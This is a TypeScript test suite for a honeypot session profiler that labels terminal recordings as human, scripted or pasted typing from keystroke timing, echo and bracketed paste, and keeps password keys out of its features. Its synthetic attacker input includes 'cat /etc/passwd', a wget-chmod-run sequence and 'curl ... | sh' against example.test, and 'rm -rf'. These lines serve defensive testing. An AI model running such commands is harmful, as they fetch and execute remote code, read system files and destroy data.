// profileSession on synthetic sessions: timing lattice, echo / no-echo (PII), output-only
// recordings, multi-key reads, verdicts, totality.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { detectTimingLattice, profileSession, type SessionProfile } from '../../../src/sessions/profile.js';
import type { Recording, RecordingEvent } from '../../../src/sessions/recording.js';

const ECHO_DELAY_S = 0.0002;

/** Builds a session: output/input events at explicit times. */
class Session {
  readonly events: RecordingEvent[] = [];
  t = 0;
  out(data: string, dt = 0.01): this {
    this.t += dt;
    this.events.push({ t: this.t, code: 'o', data });
    return this;
  }
  /** One read after `dtMs`; echoed (printables and CR LF) unless echo is false. */
  read(data: string, dtMs: number, echo = true): this {
    this.t += dtMs / 1000;
    this.events.push({ t: this.t, code: 'i', data });
    if (echo) {
      const shown = data.replace(/\r/g, '\r\n');
      this.events.push({ t: this.t + ECHO_DELAY_S, code: 'o', data: shown });
    }
    return this;
  }
  type(text: string, delaysMs: (i: number) => number, echo = true): this {
    [...text].forEach((ch, i) => {
      this.read(ch, delaysMs(i), echo);
    });
    return this;
  }
  rec(): Recording {
    return {
      sid: 'x',
      format: 'asciicast-v2',
      startedAt: null,
      cols: 80,
      rows: 24,
      attackerIp: null,
      honeypot: null,
      service: null,
      events: this.events,
    };
  }
  profile(): SessionProfile {
    return profileSession(this.rec());
  }
}

function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a * 1664525 + 1013904223) >>> 0;
    return a / 4294967296;
  };
}

const TEXT = 'cat /etc/passwd; uname -a; ls -la /tmp; wget http://example.test/x.sh; chmod +x x.sh; ./x.sh\r';
const json = (p: unknown): string => JSON.stringify(p, (_k, v) => (typeof v === 'bigint' ? v.toString() : v));

describe('timing lattice (OpenSSH ≥ 9.5 keystroke obfuscation)', () => {
  const rnd = prng(42);
  const human = Array.from({ length: 80 }, () => 60 + rnd() * 340);

  it('detects IKIs quantised to 20 ms with ±1 ms jitter', () => {
    const q = human.map((x) => Math.round(x / 20) * 20 + (rnd() * 2 - 1));
    const r = detectTimingLattice(q);
    expect(r.obfuscated).toBe(true);
    expect(r.gridMs).toBe(20);
    expect(r.hitFraction).toBe(1);
  });

  it('finds a 40 ms grid as 40, not 20', () => {
    const q = human.map((x) => Math.max(1, Math.round(x / 40)) * 40 + (rnd() - 0.5));
    expect(detectTimingLattice(q).gridMs).toBe(40);
  });

  it('does not fire on unquantised human timing', () => {
    const r = detectTimingLattice(human);
    expect(r.obfuscated).toBe(false);
    expect(r.gridMs).toBeNull();
  });

  it('does not fire on a constant-delay script (one multiple only)', () => {
    expect(detectTimingLattice(Array(50).fill(100)).obfuscated).toBe(false);
  });

  it('needs 20 samples', () => {
    expect(detectTimingLattice(human.slice(0, 19)).obfuscated).toBeNull();
  });

  it('in a profile: flagged, features still computed, fine timing not trusted by the verdict', () => {
    const rnd2 = prng(3);
    const p = new Session()
      .out('$ ')
      .type(TEXT, () => Math.round((80 + rnd2() * 300) / 20) * 20)
      .profile();
    expect(p.kd_timing_obfuscated).toBe(true);
    expect(p.kd_timing_grid_ms).toBe(20);
    expect(p.kd_iki_mean_ms).not.toBeNull();
    expect(p.verdict).toBe('unknown'); // no corrections: nothing coarse to go on
    expect(p.verdict_evidence.map((e) => e.signal)).toContain('fine_timing_untrusted');
  });
});

describe('echo and no-echo keystrokes', () => {
  const PW = 'hunter2r';
  /** Password typed at a no-echo prompt; the last key and Enter arrive in one read, and the next
   *  prompt starts with that key's character (so a naive "char appears in output" test fails). */
  function passwordSession(): Session {
    const s = new Session().out('root@host:~# ');
    s.type('sudo -k\r', () => 150);
    s.out('Password: ', 0.05);
    s.type(PW.slice(0, -1), () => 180, false);
    s.read(`${PW.slice(-1)}\r`, 170, false);
    s.out('root@host:~# ', 0.05);
    s.type('whoami\r', () => 160);
    return s;
  }

  it('excludes the password keys (and its Enter) from every feature', () => {
    const p = passwordSession().profile();
    expect(p.kd_noecho_lines).toBe(1); // one line, not the password length
    expect(json(p)).not.toContain('noecho_keystrokes');
    expect(p.kd_total_keystrokes).toBe('sudo -k\r'.length + 'whoami\r'.length);
    // IKIs: 7 within "sudo -k\r", 6 within "whoami\r"; none spans the password
    expect(p.kd_iki_count).toBe(13);
    expect(p.kd_max_pause_s).toBeLessThan(0.2);
    const s = json(p);
    expect(s).not.toContain(PW);
    for (let i = 0; i + 2 <= PW.length; i++) {
      const bigram = PW.slice(i, i + 2);
      if ('sudo -k whoami'.includes(bigram)) continue;
      expect(p.kd_top_digraphs.some((d) => d.digraph === bigram)).toBe(false);
    }
    expect(p.kd_top_digraphs.map((d) => d.digraph).sort()).toEqual(
      ['su', 'ud', 'do', 'o ', ' -', '-k', 'wh', 'ho', 'oa', 'am', 'mi'].sort(),
    );
  });

  it('a password sent in one read with its Enter is excluded too', () => {
    const s = new Session().out('Password: ');
    s.read('s3cret\r', 500, false);
    s.out('root@host:~# ', 0.05);
    const p = s.profile();
    expect(p.kd_noecho_lines).toBe(1);
    expect(p.kd_total_keystrokes).toBe(0);
    expect(json(p)).not.toContain('s3');
  });

  it('mid-line insert echo (char + rest of line + cursor moves) counts as echoed', () => {
    const s = new Session().out('$ ');
    s.type('ecoo', () => 150);
    s.read('\x1b[D', 150, false).out('\x1b[D', ECHO_DELAY_S);
    s.read('h', 150, false).out('\x1b[1@h', ECHO_DELAY_S);
    const p = s.profile();
    expect(p.kd_noecho_lines).toBe(0);
    expect(p.kd_arrow_rate).toBeCloseTo(1 / 6, 12);
  });

  // Changed with the unverified-key fix: keys whose echo cannot be verified were counted (total
  // TEXT.length, timing kept); now they are excluded from every feature like no-echo keys.
  it('input-only recordings (no output at all): every key excluded, source unverified, flagged', () => {
    const s = new Session().type(TEXT, (i) => 100 + (i % 7) * 30, false);
    const p = s.profile();
    expect(p.kd_total_keystrokes).toBe(0);
    expect(p.kd_timing_source).toBe('unverified');
    expect(p.kd_iki_count).toBe(0);
    expect(p.kd_iki_mean_ms).toBeNull();
    expect(p.kd_max_pause_s).toBeNull();
    expect(p.kd_backspace_rate).toBeNull();
    expect(p.kd_multichar_reads).toBe(0);
    expect(p.kd_pause_hist).toEqual({ burst: 0, think: 0, distracted: 0 });
    expect(p.kd_noecho_lines).toBe(0); // unverifiable is not no-echo
    expect(p.verdict).toBe('unknown');
    expect(p.kd_top_digraphs).toEqual([]);
    expect(p.kd_digraph_simhash).toBeNull();
    expect(p.verdict_evidence.map((e) => e.signal)).toContain('no_output_echo_unverifiable');
  });
});

describe('output-only recordings (echo-derived timing)', () => {
  it('recovers keystrokes from single-character echo events', () => {
    const s = new Session().out('$ ');
    const times: number[] = [];
    for (const [i, ch] of [...'uname -a'].entries()) {
      s.out(ch, 0.1 + i * 0.01);
      times.push(s.t);
    }
    s.out('\b \b', 0.2).out('a', 0.15).out('\r\n', 0.2).out('Linux host 6.1.0 x86_64\r\n$ ', 0.001);
    const p = s.profile();
    expect(p.kd_timing_source).toBe('echo');
    expect(p.kd_total_keystrokes).toBe(8 + 3);
    expect(p.kd_backspace_rate).toBeCloseTo(1 / 11, 12);
    expect(p.kd_iki_count).toBe(10);
    expect(p.kd_max_pause_s).toBeCloseTo(0.2, 9);
    expect(p.verdict_evidence.map((e) => e.signal)).toContain('echo_derived_timing');
  });

  it('a recording with neither input nor echo has timing source none', () => {
    const p = new Session().out('banner\r\n').out('bye\r\n').profile();
    expect(p.kd_timing_source).toBe('none');
    expect(p.kd_total_keystrokes).toBe(0);
    expect(p.kd_backspace_rate).toBeNull();
    expect(p.verdict).toBe('unknown');
  });
});

describe('multi-key reads', () => {
  it('only the first key of a read gets an IKI; reads of ≥ 4 keys are counted', () => {
    const s = new Session().out('$ ');
    s.read('l', 100).read('s -l', 200).read('a', 300).read('\r', 150);
    const p = s.profile();
    expect(p.kd_total_keystrokes).toBe(7);
    expect(p.kd_iki_count).toBe(3);
    expect(p.kd_iki_mean_ms).toBeCloseTo((200 + 300 + 150) / 3, 6);
    expect(p.kd_multichar_reads).toBe(1);
    // digraphs only across reads: "ls" (l→s at 200 ms) and "la" (l→a at 300 ms)
    expect(p.kd_top_digraphs.map((d) => [d.digraph, d.count])).toEqual([
      ['la', 1],
      ['ls', 1],
    ]);
    expect(p.kd_enter_latency_p50_ms).toBeCloseTo(150, 6);
  });
});

describe('top digraphs', () => {
  it('order ties by the digraph strings (UTF-16 code units), astral and private-use characters too', () => {
    // Each digraph once. By code units U+1F600 (D83D DE00) sorts below U+E000, though its code
    // point is higher: "a\u{1f600}" comes before "a\u{e000}".
    const p = new Session()
      .out('$ ')
      .type('zba\u{e000}xa\u{1f600}b', () => 120)
      .profile();
    const expected = ['zb', 'ba', 'a\u{e000}', '\u{e000}x', 'xa', 'a\u{1f600}', '\u{1f600}b'].sort();
    expect(expected.indexOf('a\u{1f600}')).toBeLessThan(expected.indexOf('a\u{e000}'));
    expect(p.kd_top_digraphs.map((d) => d.digraph)).toEqual(expected);
    expect(p.kd_top_digraphs.every((d) => d.count === 1)).toBe(true);
  });

  it('ranks ASCII and other BMP digraphs by count, then code units, and keeps 32', () => {
    // éa aé éa aé éb ba: aé 2, éa 2, ba 1, éb 1 ("a" < "b" < "é").
    const p = new Session()
      .out('$ ')
      .type('éaéaéba', () => 120)
      .profile();
    expect(p.kd_top_digraphs.map((d) => [d.digraph, d.count])).toEqual([
      ['aé', 2],
      ['éa', 2],
      ['ba', 1],
      ['éb', 1],
    ]);
    // 40 distinct digraphs once each (a0 0b b1 1c …), then "yz" twice: it leads, and the rest
    // follow in code-unit order, cut at 32.
    const letters = 'abcdefghijklmnopqrst';
    const typed = [...letters].map((c, i) => `${c}${i % 10}`).join('');
    const q = new Session()
      .out('$ ')
      .type(`${typed}!yzyz`, () => 120)
      .profile();
    const once = new Set<string>();
    const chars = `${typed}!yzyz`;
    for (let i = 1; i < chars.length; i++) once.add(chars.slice(i - 1, i + 1));
    once.delete('yz');
    expect(q.kd_top_digraphs).toHaveLength(32);
    expect(q.kd_top_digraphs[0]).toMatchObject({ digraph: 'yz', count: 2 });
    expect(q.kd_top_digraphs.slice(1).map((d) => d.digraph)).toEqual([...once].sort().slice(0, 31));
    expect(q.kd_top_digraphs.slice(1).every((d) => d.count === 1)).toBe(true);
  });

  it('more frequent digraphs come first, ties in code-unit order', () => {
    // cd dc cd da ab ba ab b😀 😀z z😀 😀z zy yx
    const p = new Session()
      .out('$ ')
      .type('cdcdabab\u{1f600}z\u{1f600}zyx', () => 120)
      .profile();
    expect(p.kd_top_digraphs.map((d) => [d.digraph, d.count])).toEqual(
      [
        ['\u{1f600}z', 2],
        ['ab', 2],
        ['cd', 2],
        ['b\u{1f600}', 1],
        ['ba', 1],
        ['dc', 1],
        ['da', 1],
        ['yx', 1],
        ['zy', 1],
        ['z\u{1f600}', 1],
      ].sort((x, y) => (y[1] as number) - (x[1] as number) || (x[0]! < y[0]! ? -1 : x[0]! > y[0]! ? 1 : 0)),
    );
  });
});

describe('verdicts on synthetic sessions', () => {
  it('constant 100 ms char-by-char sends are scripted (constant delay)', () => {
    const p = new Session()
      .out('$ ')
      .type(TEXT, () => 100)
      .profile();
    expect(p.verdict).toBe('scripted');
    expect(
      p.verdict_evidence.some((e) => e.signal === 'constant_delay_share' && e.supports === 'scripted'),
    ).toBe(true);
  });

  it('log-normal human typing with a correction is human', () => {
    const rnd = prng(9);
    const s = new Session().out('$ ');
    s.type(
      'cat /etc/paswd',
      (i) => Math.exp(Math.log(180) + 0.5 * (rnd() + rnd() - 1)) + (i === 0 ? 2000 : 0),
    );
    s.read('\x7f', 300, false).out('\b\x1b[K', ECHO_DELAY_S);
    s.type('wd\r', () => 150 + rnd() * 200);
    const p = s.profile();
    expect(p.verdict).toBe('human');
    expect(p.kd_start_latency_ms).toBeGreaterThan(2000);
  });

  it('a paste-only session is pasted', () => {
    const s = new Session().out('\x1b[?2004h$ ');
    s.read('\x1b[200~curl -s http://example.test/a.sh | sh\x1b[201~', 2000, false);
    s.read('\r', 400);
    const p = s.profile();
    expect(p.kd_paste_count).toBe(1);
    expect(p.kd_paste_chars).toBe('curl -s http://example.test/a.sh | sh'.length);
    expect(p.verdict).toBe('pasted');
  });

  it('unbracketed multi-char reads without Enter are pasted (DECNET fallback)', () => {
    const s = new Session().out('$ ');
    s.read('curl -s http://example.test/a.sh', 1000).read('\r', 500);
    expect(s.profile().verdict).toBe('pasted');
  });

  it('an empty recording: unknown, null statistics', () => {
    const p = new Session().profile();
    expect(p).toMatchObject({
      schema_version: 2, // 2 since kd_noecho_lines and the unverified-key exclusion
      duration_s: 0,
      kd_total_keystrokes: 0,
      kd_iki_mean_ms: null,
      kd_pause_hist: { burst: 0, think: 0, distracted: 0 },
      kd_pause_hist_rel: null,
      kd_timing_obfuscated: null,
      kd_digraph_simhash: null,
      verdict: 'unknown',
    });
  });
});

describe('totality', () => {
  it('profileSession never throws on arbitrary events (property)', () => {
    const event = fc.record({
      t: fc.oneof(fc.double(), fc.constant(Number.NaN), fc.integer()),
      code: fc.constantFrom('i', 'o', 'x', 'm', 'r', ''),
      data: fc.oneof(
        fc.string({ unit: 'binary', maxLength: 30 }),
        fc.constantFrom('\x1b[200~', '\x1b[201~', '\x1b[', '\r', '\x7f', '\x1b[?2004h'),
      ),
    });
    fc.assert(
      fc.property(fc.array(event, { maxLength: 60 }), (events) => {
        const sorted = [...events].sort((a, b) => (a.t < b.t ? -1 : a.t > b.t ? 1 : 0));
        const p = profileSession({ ...new Session().rec(), events: sorted });
        expect(typeof json(p)).toBe('string');
        expect(p.kd_total_keystrokes).toBeGreaterThanOrEqual(0);
      }),
      { numRuns: 500 },
    );
  });

  it('tolerates a malformed Recording object', () => {
    expect(() => profileSession({} as Recording)).not.toThrow();
    expect(() => profileSession({ events: [null, 1, { t: 1 }] } as unknown as Recording)).not.toThrow();
  });
});

describe('unverified keys (echo cannot be checked) are excluded like no-echo keys', () => {
  it('keys after an Enter in the same read are excluded, with the rest of their line', () => {
    const s = new Session().out('$ ');
    s.read('ls\rab\x7fc', 300, false).out('ls\r\n', ECHO_DELAY_S).out('file\r\n$ ', 0.01);
    s.read('\r', 400, false).out('\r\n$ ', ECHO_DELAY_S);
    const p = s.profile();
    // l, s, Enter; "ab⌫c" and the Enter ending that line are unverified
    expect(p.kd_total_keystrokes).toBe(3);
    expect(p.kd_backspace_rate).toBe(0);
    expect(p.kd_noecho_lines).toBe(0);
    expect(p.kd_iki_count).toBe(0);
    expect(p.kd_timing_source).toBe('input');
  });

  it('an unverified line after a no-echo line: one no-echo line, nothing included', () => {
    const s = new Session().out('Password: ');
    s.read('pw', 300, false);
    s.read('\rls', 300, false).out('\r\n$ ', 0.05);
    const p = s.profile();
    expect(p.kd_total_keystrokes).toBe(0);
    expect(p.kd_noecho_lines).toBe(1);
  });

  it('no output at all: pastes are still honoured and counted, keys are not', () => {
    const s = new Session();
    s.read('\x1b[200~abc\x1b[201~', 100, false).read('\r', 100, false);
    const p = s.profile();
    expect(p.kd_paste_count).toBe(1);
    expect(p.kd_paste_chars).toBe(3);
    expect(p.kd_total_keystrokes).toBe(0);
    expect(p.kd_timing_source).toBe('unverified');
  });
});

describe('kd_noecho_lines', () => {
  it('counts lines ended by ^C and Enter, not keys', () => {
    const s = new Session().out('Password: ');
    s.read('a', 200, false).read('b', 200, false).read('\x03', 200, false).out('^C\r\nPassword: ', 0.05);
    s.read('c', 200, false).read('\r', 200, false).out('\r\n$ ', 0.05);
    const p = s.profile();
    expect(p.kd_noecho_lines).toBe(2);
    expect(p.kd_total_keystrokes).toBe(0);
    expect(p.kd_ctrl_c_rate).toBeNull();
  });

  it('a line with no-echo keys around an echoed one is one line', () => {
    const s = new Session().out('> ');
    s.read('x', 200, false).read('y', 200).read('z', 200, false).read('\r', 200, false);
    s.out('\r\n> ', 0.05);
    const p = s.profile();
    expect(p.kd_noecho_lines).toBe(1);
    expect(p.kd_total_keystrokes).toBe(1); // y; x, z and the Enter (in z's run) are excluded
  });

  it('a no-echo run at the end of the session is a line', () => {
    const s = new Session().out('Password: ');
    s.read('a', 200, false).read('b', 200, false);
    expect(s.profile().kd_noecho_lines).toBe(1);
  });
});

describe('bracketed paste needs mode 2004 in the output', () => {
  it('without ESC[?2004h, ESC[200~ … ESC[201~ is two escape-sequence keys and typed text', () => {
    const s = new Session().out('$ ');
    s.read('\x1b[200~ls\x1b[201~', 500, false).out('ls', ECHO_DELAY_S);
    s.read('\r', 200);
    const p = s.profile();
    expect(p.kd_paste_count).toBe(0);
    expect(p.kd_paste_chars).toBe(0);
    expect(p.kd_total_keystrokes).toBe(5); // ESC[200~, l, s, ESC[201~, Enter
  });

  it('honoured while the mode is on, not after ESC[?2004l', () => {
    const s = new Session().out('\x1b[?2004h$ ');
    s.read('\x1b[200~ab\x1b[201~', 500, false).read('\r', 100).out('\x1b[?2004l\r\n$ ', 0.05);
    s.read('\x1b[200~cd\x1b[201~', 500, false).out('cd', ECHO_DELAY_S);
    const p = s.profile();
    expect(p.kd_paste_count).toBe(1);
    expect(p.kd_paste_chars).toBe(2);
    expect(p.kd_total_keystrokes).toBe(1 + 4); // Enter; ESC[200~, c, d, ESC[201~
  });

  it('an unterminated paste ends when the output switches the mode off', () => {
    const s = new Session().out('\x1b[?2004h$ ');
    s.read('\x1b[200~rm -rf', 500, false).out('\x1b[?2004l', 0.1);
    s.read('x', 200, false).out('x', ECHO_DELAY_S);
    const p = s.profile();
    expect(p.kd_paste_count).toBe(1);
    expect(p.kd_paste_chars).toBe('rm -rf'.length);
    expect(p.kd_total_keystrokes).toBe(1);
  });
});

describe('lone surrogates in input', () => {
  it('never reach digraphs', () => {
    const s = new Session().out('$ ');
    for (const ch of ['a', 'b', '\ud800', 'c', 'd']) s.read(ch, 150);
    const p = s.profile();
    expect(p.kd_total_keystrokes).toBe(5);
    expect(p.kd_top_digraphs.map((d) => d.digraph).sort()).toEqual(['ab', 'cd']);
    expect(/[\ud800-\udfff]/.test(json(p))).toBe(false);
  });
});

describe('events far in the future', () => {
  it('events after 10 years are ignored by the profile (duration stays a valid date span)', () => {
    const rec = new Session().out('$ ').rec();
    rec.events.push({ t: 1e13, code: 'o', data: 'late' });
    const p = profileSession(rec);
    expect(p.duration_s).toBe(0.01);
  });
});
